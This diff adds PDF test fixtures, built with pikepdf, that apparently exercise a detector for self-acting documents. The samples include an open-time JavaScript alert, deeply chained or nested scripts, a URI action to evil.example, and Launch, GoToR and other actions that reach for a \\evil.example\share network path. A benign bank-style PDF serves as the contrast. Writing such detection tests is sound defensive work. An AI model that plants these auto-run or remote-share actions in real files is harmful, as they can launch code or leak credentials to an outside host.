@@ -58,6 +58,63 @@ def _script(made):
     made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
 
 
+def _to_open(action):
+    """A PDF that does this when it is opened."""
+
+    def change(made):
+        made.Root.OpenAction = action
+
+    return pdf(change=change)
+
+
+def act(kind, **more):
+    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)
+
+
+SHARE = r"\\evil.example\share"
+
+
+@cache
+def acting():
+    """PDFs that do something by themselves, or reach for files elsewhere, however deep it lies."""
+    script = act("JavaScript", JS="app.alert(1)")
+    chained = script
+    for _link in range(20):
+        chained = act("GoTo", Next=chained)
+    nested = pikepdf.Array([script])
+    for _fold in range(60):
+        nested = pikepdf.Array([nested])
+
+    def folded(made):
+        made.Root["/Folded"] = nested
+
+    def when_shown(made):
+        made.pages[0].obj["/AA"] = pikepdf.Dictionary(O=act("URI", URI="https://evil.example/"))
+
+    def elsewhere(made):
+        made.pages[0].obj["/Contents"] = pikepdf.Stream(made, b"", {"/F": SHARE})
+
+    reaching = [_to_open(act(kind, F=SHARE)) for kind in ("GoToR", "GoToE", "Thread", "Launch")]
+    own = (_to_open(chained), _to_open(act("URI", URI="https://evil.example/")))
+    return (*own, *reaching, *(pdf(change=each) for each in (folded, when_shown, elsewhere)))
+
+
+def harmless():
+    """A PDF that opens at its page and has a link in it, as a bank sends one."""
+
+    def change(made):
+        made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
+        link = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Link,
+            Rect=pikepdf.Array([0, 0, 9, 9]),
+            A=act("URI", URI="https://bank.example/"),
+        )
+        made.pages[0].obj["/Annots"] = pikepdf.Array([link])
+
+    return pdf(change=change)
+
+
 def _attachment(made):
     made.attachments["more.txt"] = b"more"
 
